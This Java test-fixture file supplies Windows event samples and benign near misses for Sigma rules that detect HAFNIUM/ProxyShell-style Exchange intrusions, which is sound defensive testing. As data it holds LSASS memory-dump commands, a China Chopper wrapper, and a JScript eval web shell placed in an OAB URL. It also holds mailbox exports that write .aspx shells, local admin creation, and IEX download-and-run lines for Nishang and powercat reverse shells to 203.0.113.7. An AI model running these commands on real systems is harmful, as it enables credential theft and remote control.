package org.exhunt.hunt.rules;

import java.util.List;
import org.exhunt.sigma.Logsource;

/**
 * Attack events and near misses for the rules under {@code rules/sigma/windows}, with the field
 * names SigmaHQ's Windows rules use (Sysmon's for process, file and process-access events; the
 * unnamed values of classic events as the list field {@code Data}). Values are shaped like the
 * ones the 2021 HAFNIUM and ProxyShell reports and public Sysmon recordings show.
 */
final class WindowsRuleCases {

    static final Logsource PROCESS_CREATION = new Logsource("windows", "process_creation", null);
    static final Logsource FILE_EVENT = new Logsource("windows", "file_event", null);
    static final Logsource PROCESS_ACCESS = new Logsource("windows", "process_access", null);
    static final Logsource PS_SCRIPT = new Logsource("windows", "ps_script", null);
    /** SigmaHQ's mapping gives classic PowerShell events both a category and the service. */
    static final Logsource PS_CLASSIC = new Logsource("windows", "ps_classic_start", "powershell-classic");
    static final Logsource APPLICATION = new Logsource("windows", null, "application");
    static final Logsource EXCHANGE_MANAGEMENT = new Logsource("windows", null, "msexchange-management");
    static final Logsource ANTIVIRUS = new Logsource("windows", "antivirus", "windefend");

    /** Every logsource the Windows rules are written for. */
    static final List<Logsource> ALL = List.of(PROCESS_CREATION, FILE_EVENT, PROCESS_ACCESS, PS_SCRIPT, PS_CLASSIC,
            APPLICATION, EXCHANGE_MANAGEMENT, ANTIVIRUS);

    private static final String EXCHANGE = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";
    private static final String W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
    private static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    private static final String POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe";
    private static final String LSASS = "C:\\Windows\\system32\\lsass.exe";
    private static final String ASP_NET_TEMP =
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\9b2f1c4e\\6c1d0e2a\\";
    /** The China Chopper wrapper around an operator command, as HAFNIUM's shells ran it. */
    private static final String CHOPPER = "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\\"&%s&echo [S]&cd&echo [E]\"";
    private static final String OAB_SHELL_URL = "http://f/<script language=\"JScript\" runat=\"server\">"
            + "function Page_Load(){eval(Request[\"exec_code\"],\"unsafe\");}</script>";

    /** A further event a rule must fire on, or must not, and why it matters. */
    record Extra(String rule, Logsource logsource, boolean fires, Object[] event, String why) {
        @Override
        public String toString() {
            return rule + (fires ? " fires: " : " stays quiet: ") + why;
        }
    }

    private WindowsRuleCases() {
    }

    private static Object[] f(Object... kv) {
        return kv;
    }

    private static List<String> data(String... values) {
        return List.of(values);
    }

    private static RuleCases.Case win(String rule, Logsource source, Object[] positive, Object[] negative) {
        return new RuleCases.Case("windows/" + rule, source, positive, negative);
    }

    private static Extra fires(String rule, Logsource source, String why, Object... event) {
        return new Extra("windows/" + rule, source, true, event, why);
    }

    private static Extra quiet(String rule, Logsource source, String why, Object... event) {
        return new Extra("windows/" + rule, source, false, event, why);
    }

    /** Classic PowerShell engine-start data: state, previous state, then the details text. */
    private static List<String> engineStart(String hostApplication) {
        return data("Available", "None", "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n"
                + "\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.14393.4350\r\n"
                + "\tHostId=5d8bd0d1-4a4c-4b0e-9a6c-2f0f4f0b1d77\r\n\tHostApplication=" + hostApplication
                + "\r\n\tEngineVersion=5.1.14393.4350\r\n");
    }

    /** An MSExchange Management "cmdlet succeeded" event: cmdlet, parameters, caller, then run details. */
    private static Object[] cmdlet(String name, String parameters) {
        return f("Channel", "MSExchange Management", "Provider_Name", "MSExchange CmdletLogs", "EventID", "1",
                "Data", data(name, parameters, "contoso.local/Users/Administrator", "S-1-5-21-1004336348-1177238915-682003330-500",
                        "S-1-5-21-1004336348-1177238915-682003330-500", "ServerRemoteManagement", "7412 w3wp#MSExchangePowerShellAppPool",
                        "", "00:00:00.1093750", "View Entire Forest: 'False', Configuration Domain Controller: 'DC01.contoso.local'"));
    }

    static List<RuleCases.Case> cases() {
        return List.of(
            win("app_um_invalid_cast_cve_2021_26857.yml", APPLICATION,
                f("Channel", "Application", "Provider_Name", "MSExchange Unified Messaging", "EventID", "1136",
                  "Data", data("UM worker process", "System.InvalidCastException: Unable to cast object of type "
                          + "'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCore.UMVoiceMailMessage'.")),
                f("Channel", "Application", "Provider_Name", "MSExchange Unified Messaging", "EventID", "1136",
                  "Data", data("UM worker process", "System.Net.Sockets.SocketException: An existing connection was forcibly "
                          + "closed by the remote host"))),
            win("proc_creation_um_worker_child_process.yml", PROCESS_CREATION,
                f("Image", CMD, "CommandLine", "cmd.exe /c whoami > C:\\ProgramData\\w.txt",
                  "ParentImage", EXCHANGE + "Bin\\UMWorkerProcess.exe"),
                f("Image", "C:\\Windows\\System32\\WerFault.exe", "CommandLine", "C:\\Windows\\system32\\WerFault.exe -u -p 5120 -s 1016",
                  "ParentImage", EXCHANGE + "Bin\\UMWorkerProcess.exe")),
            win("file_event_script_in_web_folder_by_exchange_process.yml", FILE_EVENT,
                f("Image", W3WP, "TargetFilename", EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx"),
                f("Image", "C:\\ExchangeSetup\\Setup\\ServerRoles\\Common\\ExSetup.exe",
                  "TargetFilename", EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx")),
            win("file_event_script_in_web_folder_over_smb.yml", FILE_EVENT,
                f("Image", "System", "TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"),
                f("Image", "System", "TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\WebUIValidation.js")),
            win("file_event_mailbox_replication_wrote_script.yml", FILE_EVENT,
                f("Image", EXCHANGE + "Bin\\MSExchangeMailboxReplication.exe",
                  "TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\vvdw.aspx"),
                f("Image", EXCHANGE + "Bin\\MSExchangeMailboxReplication.exe",
                  "TargetFilename", "\\\\fs01\\pst$\\jane.doe.pst")),
            win("proc_creation_w3wp_spawns_shell.yml", PROCESS_CREATION,
                f("Image", CMD, "CommandLine", "\"c:\\windows\\system32\\cmd.exe\" /c whoami", "ParentImage", W3WP),
                f("Image", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                  "CommandLine", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\""
                          + ASP_NET_TEMP + "wz1xqk2b.cmdline\"",
                  "ParentImage", W3WP)),
            win("proc_creation_china_chopper_command.yml", PROCESS_CREATION,
                f("Image", CMD, "CommandLine", String.format(CHOPPER, "ipconfig /all"), "ParentImage", W3WP),
                f("Image", CMD, "CommandLine", "cmd /c \"cd /d C:\\Scripts&echo Starting backup&backup.cmd\"",
                  "ParentImage", "C:\\Windows\\System32\\svchost.exe")),
            win("proc_creation_lsass_dump_comsvcs.yml", PROCESS_CREATION,
                f("Image", RUNDLL32, "CommandLine", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\lsass.dmp full",
                  "ParentImage", CMD),
                f("Image", "C:\\Windows\\System32\\regsvr32.exe", "CommandLine", "regsvr32.exe /s C:\\Windows\\System32\\comsvcs.dll",
                  "ParentImage", CMD)),
            win("ps_script_lsass_dump_comsvcs.yml", PS_SCRIPT,
                f("EventID", "4104", "ScriptBlockText", "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
                        + "MiniDump (Get-Process lsass).Id C:\\ProgramData\\debug.bin full"),
                f("EventID", "4104", "ScriptBlockText", "Start-Process regsvr32.exe -ArgumentList '/s C:\\Windows\\System32\\comsvcs.dll' -Wait")),
            win("ps_classic_lsass_dump_comsvcs.yml", PS_CLASSIC,
                f("EventID", "400", "Channel", "Windows PowerShell", "Data", engineStart(
                  "powershell.exe -NoP -C C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
                          + "MiniDump (Get-Process lsass).Id \\Windows\\Temp\\vtnr8kff.dmp full")),
                f("EventID", "400", "Channel", "Windows PowerShell", "Data", engineStart(
                  "powershell.exe -NoP -C regsvr32.exe /s C:\\Windows\\System32\\comsvcs.dll"))),
            win("av_web_shell_detected.yml", ANTIVIRUS,
                f("EventID", "1116", "Signature", "Backdoor:ASP/Chopper.F!dha", "Threat Name", "Backdoor:ASP/Chopper.F!dha",
                  "Filename", "file:_C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx"),
                f("EventID", "1116", "Signature", "PUA:Win32/Softcnapp", "Threat Name", "PUA:Win32/Softcnapp",
                  "Filename", "file:_C:\\Users\\admin\\Downloads\\setup_free_pdf.exe")),
            win("proc_creation_lsass_dump_procdump.yml", PROCESS_CREATION,
                f("Image", "C:\\ProgramData\\procdump64.exe", "OriginalFileName", "procdump",
                  "CommandLine", "procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp"),
                f("Image", "C:\\Tools\\procdump64.exe", "OriginalFileName", "procdump",
                  "CommandLine", "procdump64.exe -accepteula -ma -e 1 w3wp.exe C:\\Dumps")),
            win("proc_access_lsass_memory_read.yml", PROCESS_ACCESS,
                f("SourceImage", W3WP, "TargetImage", LSASS, "GrantedAccess", "0x1010",
                  "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|UNKNOWN(00007FFB2C1A0B3E)"),
                f("SourceImage", W3WP, "TargetImage", LSASS, "GrantedAccess", "0x1000",
                  "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+2bd3e")),
            win("proc_creation_archive_into_web_folder.yml", PROCESS_CREATION,
                f("Image", "C:\\ProgramData\\7z.exe", "OriginalFileName", "7z.exe",
                  "CommandLine", "C:\\ProgramData\\7z.exe a -pInfected1 C:\\inetpub\\wwwroot\\aspnet_client\\sys.7z C:\\ProgramData\\out\\*"),
                f("Image", "C:\\Program Files\\7-Zip\\7z.exe", "OriginalFileName", "7z.exe",
                  "CommandLine", "\"C:\\Program Files\\7-Zip\\7z.exe\" x D:\\Deploy\\intranet.zip -oC:\\inetpub\\wwwroot\\intranet\\")),
            win("proc_creation_archive_into_programdata.yml", PROCESS_CREATION,
                f("Image", "C:\\ProgramData\\rar.exe", "OriginalFileName", "Command line RAR",
                  "CommandLine", "C:\\ProgramData\\rar.exe a -k -r -s -m1 -hpP@ssw0rd C:\\ProgramData\\mail.rar C:\\ProgramData\\export\\"),
                f("Image", "C:\\Program Files\\7-Zip\\7z.exe", "OriginalFileName", "7z.exe",
                  "CommandLine", "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\ProgramData\\Vendor\\agent-update.7z -oC:\\ProgramData\\Vendor\\")),
            win("proc_creation_exchange_snapin_loaded.yml", PROCESS_CREATION,
                f("Image", POWERSHELL, "OriginalFileName", "PowerShell.EXE", "ParentImage", W3WP,
                  "CommandLine", "powershell.exe -Command \"Add-PSSnapin Microsoft.Exchange.Powershell.Snapin;"
                          + "Get-Mailbox -ResultSize Unlimited | Select DisplayName,PrimarySmtpAddress\""),
                f("Image", POWERSHELL, "OriginalFileName", "PowerShell.EXE", "ParentImage", "C:\\Windows\\System32\\msiexec.exe",
                  "CommandLine", "powershell.exe -NonInteractive -Command \"Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn;"
                          + "$exserver=Get-ExchangeServer ([Environment]::MachineName) -ErrorVariable exerr 2> $null\"")),
            win("ps_script_exchange_snapin_loaded.yml", PS_SCRIPT,
                f("EventID", "4104", "ScriptBlockText",
                  "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox -ResultSize Unlimited"),
                f("EventID", "4104", "ScriptBlockText",
                  ". 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\RemoteExchange.ps1'; Connect-ExchangeServer -auto")),
            win("ps_classic_exchange_snapin_loaded.yml", PS_CLASSIC,
                f("EventID", "400", "Channel", "Windows PowerShell", "Data", engineStart(
                  "powershell.exe -Command Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-Mailbox")),
                f("EventID", "400", "Channel", "Windows PowerShell", "Data", engineStart(
                  "C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -command \". 'C:\\Program Files\\"
                          + "Microsoft\\Exchange Server\\V15\\bin\\RemoteExchange.ps1'; Connect-ExchangeServer -auto\""))),
            win("mgmt_mailbox_export_to_web_folder.yml", EXCHANGE_MANAGEMENT,
                cmdlet("New-MailboxExportRequest", "-Mailbox \"administrator@contoso.com\" -IncludeFolders \"#Drafts#\" "
                        + "-ContentFilter \"Subject -eq 'vvdw'\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\vvdw.aspx\""),
                cmdlet("New-MailboxExportRequest", "-Mailbox \"jane.doe\" -FilePath \"\\\\fs01\\pst$\\jane.doe.pst\"")),
            win("ps_script_mailbox_export_to_web_folder.yml", PS_SCRIPT,
                f("EventID", "4104", "ScriptBlockText", "New-MailboxExportRequest -Mailbox administrator@contoso.com "
                        + "-FilePath \\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx"),
                f("EventID", "4104", "ScriptBlockText", "New-MailboxExportRequest -Mailbox jane.doe -FilePath \\\\fs01\\pst$\\jane.doe.pst")),
            win("proc_creation_mailbox_export_to_web_folder.yml", PROCESS_CREATION,
                f("Image", POWERSHELL, "ParentImage", W3WP, "CommandLine", "powershell -c \"Add-PSSnapin *Exchange*;"
                        + "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx\""),
                f("Image", POWERSHELL, "ParentImage", "C:\\Windows\\explorer.exe", "CommandLine", "powershell -c \"Add-PSSnapin *Exchange*;"
                        + "New-MailboxExportRequest -Mailbox leaver01 -FilePath \\\\fs01\\pst$\\leaver01.pst\"")),
            win("mgmt_import_export_role_granted.yml", EXCHANGE_MANAGEMENT,
                cmdlet("New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"administrator@contoso.com\""),
                cmdlet("Get-ManagementRoleAssignment", "-Role \"Mailbox Import Export\"")),
            win("ps_script_import_export_role_granted.yml", PS_SCRIPT,
                f("EventID", "4104", "ScriptBlockText",
                  "New-ManagementRoleAssignment -Role \"Mailbox Import Export\" -User administrator@contoso.com"),
                f("EventID", "4104", "ScriptBlockText", "Get-ManagementRoleAssignment -Role \"Mailbox Import Export\" | Format-List")),
            win("mgmt_oab_vdir_url_with_script.yml", EXCHANGE_MANAGEMENT,
                cmdlet("Set-OabVirtualDirectory", "-ExternalUrl \"" + OAB_SHELL_URL + "\" -Identity \"EXCH01\\OAB (Default Web Site)\""),
                cmdlet("Set-OabVirtualDirectory", "-ExternalUrl \"https://mail.contoso.com/OAB\" -Identity \"EXCH01\\OAB (Default Web Site)\"")),
            win("ps_script_oab_vdir_url_with_script.yml", PS_SCRIPT,
                f("EventID", "4104", "ScriptBlockText",
                  "Set-OabVirtualDirectory -Identity 'EXCH01\\OAB (Default Web Site)' -ExternalUrl '" + OAB_SHELL_URL + "'"),
                f("EventID", "4104", "ScriptBlockText",
                  "Set-OabVirtualDirectory -Identity 'EXCH01\\OAB (Default Web Site)' -ExternalUrl 'https://mail.contoso.com/OAB'")),
            win("proc_creation_oab_vdir_url_with_script.yml", PROCESS_CREATION,
                f("Image", POWERSHELL, "ParentImage", W3WP, "CommandLine", "powershell -c \"Add-PSSnapin *Exchange*;"
                        + "Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl '" + OAB_SHELL_URL + "'\""),
                f("Image", POWERSHELL, "ParentImage", "C:\\Windows\\explorer.exe", "CommandLine", "powershell -c \"Add-PSSnapin *Exchange*;"
                        + "Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl 'https://mail.contoso.com/OAB'\"")),
            win("mgmt_certificate_request_to_web_folder.yml", EXCHANGE_MANAGEMENT,
                cmdlet("New-ExchangeCertificate", "-GenerateRequest \"True\" -RequestFile \"\\\\localhost\\c$\\inetpub\\wwwroot\\"
                        + "aspnet_client\\tgczk.aspx\" -BinaryEncoded \"True\" -SubjectName \"c=US, o=ldq, cn=ldq\""),
                cmdlet("New-ExchangeCertificate", "-GenerateRequest \"True\" -RequestFile \"\\\\fs01\\certs$\\mail.contoso.com.req\" "
                        + "-SubjectName \"c=US, o=Contoso, cn=mail.contoso.com\" -DomainName \"mail.contoso.com\"")),
            win("proc_creation_local_admin_added_by_web_process.yml", PROCESS_CREATION,
                f("Image", CMD, "ParentImage", W3WP, "CommandLine", String.format(CHOPPER, "net user sqlsvc P@ssw0rd123 /add")),
                f("Image", "C:\\Windows\\System32\\net.exe", "ParentImage", CMD, "CommandLine", "net user svc_backup Spring2021! /add")),
            win("proc_creation_nishang_powercat_reverse_shell.yml", PROCESS_CREATION,
                f("Image", POWERSHELL, "ParentImage", W3WP, "CommandLine", "powershell -nop -c \"IEX (New-Object Net.WebClient)"
                        + ".DownloadString('https://raw.githubusercontent.com/samratashok/nishang/master/Shells/Invoke-PowerShellTcpOneLine.ps1')\""),
                f("Image", POWERSHELL, "ParentImage", "C:\\Windows\\explorer.exe",
                  "CommandLine", "powershell -nop -c \"Test-NetConnection -ComputerName mail.contoso.com -Port 443\"")),
            win("ps_script_nishang_powercat_reverse_shell.yml", PS_SCRIPT,
                f("EventID", "4104", "ScriptBlockText", "function Invoke-PowerShellTcp\n{\n    [CmdletBinding(DefaultParameterSetName=\"reverse\")]"
                        + " Param( [String] $IPAddress, [Int] $Port )\n    $client = New-Object System.Net.Sockets.TCPClient($IPAddress,$Port)"),
                f("EventID", "4104", "ScriptBlockText", "$client = New-Object System.Net.Sockets.TcpClient\n"
                        + "$client.Connect('mail.contoso.com', 25); $client.Connected")),
            win("ps_classic_nishang_powercat_reverse_shell.yml", PS_CLASSIC,
                f("EventID", "400", "Channel", "Windows PowerShell", "Data", engineStart("powershell -c IEX(New-Object System.Net.WebClient)"
                        + ".DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1');"
                        + "powercat -c 203.0.113.7 -p 443 -e cmd")),
                f("EventID", "400", "Channel", "Windows PowerShell", "Data", engineStart(
                  "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\Check-Ports.ps1")))
        );
    }

    /**
     * More events per rule: the further benign neighbours the rule must let pass (so that the one
     * near miss of {@link #cases()} is not the only thing pinning a filter down) and attack
     * variants it must still catch.
     */
    static List<Extra> extras() {
        return List.of(
            quiet("proc_creation_um_worker_child_process.yml", PROCESS_CREATION,
                "the .NET serializer build the UM worker runs itself",
                "Image", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                "CommandLine", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths "
                        + "@\"C:\\Windows\\TEMP\\fq3vbm0d.cmdline\"",
                "ParentImage", EXCHANGE + "Bin\\UMWorkerProcess.exe"),
            fires("proc_creation_um_worker_child_process.yml", PROCESS_CREATION,
                "PowerShell under UMService", "Image", POWERSHELL, "CommandLine", "powershell -ep bypass -enc SQBFAFgA",
                "ParentImage", EXCHANGE + "Bin\\UMService.exe"),
            fires("file_event_script_in_web_folder_by_exchange_process.yml", FILE_EVENT,
                "the UM worker writing into aspnet_client (CVE-2021-26858)",
                "Image", EXCHANGE + "Bin\\UMWorkerProcess.exe", "TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\error.aspx"),
            fires("file_event_script_in_web_folder_by_exchange_process.yml", FILE_EVENT,
                "the OAB reset writing its file under ClientAccess",
                "Image", W3WP, "TargetFilename", EXCHANGE + "ClientAccess\\OAB\\xx.aspx"),
            quiet("file_event_script_in_web_folder_by_exchange_process.yml", FILE_EVENT,
                "ECP saving a virtual directory's web.config",
                "Image", W3WP, "TargetFilename", EXCHANGE + "ClientAccess\\Owa\\web.config"),
            quiet("file_event_script_in_web_folder_by_exchange_process.yml", FILE_EVENT,
                "ASP.NET compiling a page into its temporary folder",
                "Image", W3WP, "TargetFilename", ASP_NET_TEMP + "App_Web_logon.aspx.cdcab7d2.0.cs"),
            quiet("file_event_script_in_web_folder_by_exchange_process.yml", FILE_EVENT,
                "msiexec installing a security update's pages",
                "Image", "C:\\Windows\\System32\\msiexec.exe", "TargetFilename", EXCHANGE + "FrontEnd\\HttpProxy\\ecp\\auth\\TimeoutLogout.aspx"),
            quiet("proc_creation_w3wp_spawns_shell.yml", PROCESS_CREATION,
                "error reporting after an application pool crash",
                "Image", "C:\\Windows\\System32\\WerFault.exe", "CommandLine", "C:\\Windows\\system32\\WerFault.exe -u -p 7412 -s 3120",
                "ParentImage", W3WP),
            fires("proc_creation_w3wp_spawns_shell.yml", PROCESS_CREATION,
                "a renamed PowerShell found by its original file name",
                "Image", "C:\\ProgramData\\svchost.exe", "OriginalFileName", "PowerShell.EXE", "CommandLine", "svchost.exe -nop -w hidden",
                "ParentImage", W3WP),
            fires("proc_creation_lsass_dump_comsvcs.yml", PROCESS_CREATION,
                "the export called by its ordinal",
                "Image", RUNDLL32, "CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll #24 624 C:\\ProgramData\\l.bin full"),
            fires("av_web_shell_detected.yml", ANTIVIRUS,
                "a generic detection of a script file in the OWA auth folder",
                "EventID", "1117", "Signature", "Trojan:Script/Wacatac.B!ml",
                "Filename", "file:_C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEEE.aspx"),
            quiet("av_web_shell_detected.yml", ANTIVIRUS,
                "a generic web shell sample found in a test kit, outside any web folder (as in the corpus's Atomic Red Team recording)",
                "EventID", "1116", "Signature", "Backdoor:ASP/Ace.T",
                "Filename", "file:_C:\\AtomicRedTeam\\atomic-red-team-master\\atomics\\T1100\\shells\\cmd.aspx"),
            fires("av_web_shell_detected.yml", ANTIVIRUS,
                "a China Chopper detection wherever the file is",
                "EventID", "1117", "Signature", "Trojan:JS/Chopper!dha", "Filename", "file:_D:\\Temp\\s.js"),
            quiet("av_web_shell_detected.yml", ANTIVIRUS,
                "the EICAR test file dropped in the web root to check the scanner",
                "EventID", "1116", "Signature", "Virus:DOS/EICAR_Test_File", "Filename", "file:_C:\\inetpub\\wwwroot\\eicar.com"),
            fires("proc_creation_lsass_dump_procdump.yml", PROCESS_CREATION,
                "slash switches and a renamed binary",
                "Image", "C:\\ProgramData\\dump.exe", "OriginalFileName", "procdump",
                "CommandLine", "dump.exe /accepteula /ma lsass.exe C:\\ProgramData\\out.dmp"),
            fires("proc_creation_lsass_dump_procdump.yml", PROCESS_CREATION,
                "a shell starting ProcDump (the shell's command line is what is logged)",
                "Image", CMD, "OriginalFileName", "Cmd.Exe",
                "CommandLine", "\"C:\\Windows\\system32\\cmd.exe\" /c \"procdump.exe -accepteula -ma lsass.exe lsass_dump.dmp\""),
            fires("proc_access_lsass_memory_read.yml", PROCESS_ACCESS,
                "ProcDump given LSASS's process id rather than its name",
                "SourceImage", "C:\\Users\\Public\\tools\\procdump64.exe", "TargetImage", LSASS, "GrantedAccess", "0x001fffff",
                "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+2bd3e"),
            quiet("proc_access_lsass_memory_read.yml", PROCESS_ACCESS,
                "Task Manager opening LSASS, as it does to list processes",
                "SourceImage", "C:\\Windows\\system32\\taskmgr.exe", "TargetImage", LSASS, "GrantedAccess", "0x001fffff",
                "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+2bd3e"),
            fires("proc_access_lsass_memory_read.yml", PROCESS_ACCESS,
                "rundll32 in comsvcs MiniDump, access mask written with leading zeros",
                "SourceImage", RUNDLL32, "TargetImage", LSASS, "GrantedAccess", "0x001fffff",
                "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\SYSTEM32\\dbgcore.DLL+9247|"
                        + "C:\\windows\\system32\\comsvcs.dll+3c3d4|C:\\Windows\\system32\\rundll32.exe+3bcf"),
            quiet("proc_access_lsass_memory_read.yml", PROCESS_ACCESS,
                "w3wp opening its own child process with full rights",
                "SourceImage", W3WP, "TargetImage", CMD, "GrantedAccess", "0x001fffff",
                "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+2bd3e"),
            fires("proc_creation_archive_into_programdata.yml", PROCESS_CREATION,
                "makecab compressing a dump",
                "Image", "C:\\Windows\\System32\\makecab.exe", "OriginalFileName", "makecab.exe",
                "CommandLine", "makecab C:\\ProgramData\\lsass.dmp C:\\ProgramData\\lsass.cab"),
            fires("proc_creation_local_admin_added_by_web_process.yml", PROCESS_CREATION,
                "net localgroup run by w3wp itself",
                "Image", "C:\\Windows\\System32\\net.exe", "ParentImage", W3WP,
                "CommandLine", "net  localgroup administrators sqlsvc /add"),
            quiet("proc_creation_local_admin_added_by_web_process.yml", PROCESS_CREATION,
                "listing users through a web shell is discovery, not account creation",
                "Image", CMD, "ParentImage", W3WP, "CommandLine", "\"c:\\windows\\system32\\cmd.exe\" /c net user"),
            quiet("mgmt_mailbox_export_to_web_folder.yml", EXCHANGE_MANAGEMENT,
                "a PST export to a share on the Exchange server itself, named by host",
                cmdlet("New-MailboxExportRequest", "-Mailbox \"leaver01\" -FilePath \"\\\\EXCH01\\PST$\\leaver01.pst\"")),
            quiet("app_um_invalid_cast_cve_2021_26857.yml", APPLICATION,
                "the same exception from another Exchange component",
                "Channel", "Application", "Provider_Name", "MSExchange Common", "EventID", "4999",
                "Data", data("System.InvalidCastException: Specified cast is not valid.")),
            fires("ps_classic_exchange_snapin_loaded.yml", PS_CLASSIC,
                "a pipeline-execution event (800) naming the snap-in",
                "EventID", "800", "Channel", "Windows PowerShell",
                "Data", data("Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn",
                        "\tDetailSequence=1\r\n\tCommandLine=Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\r\n"))
        );
    }
}
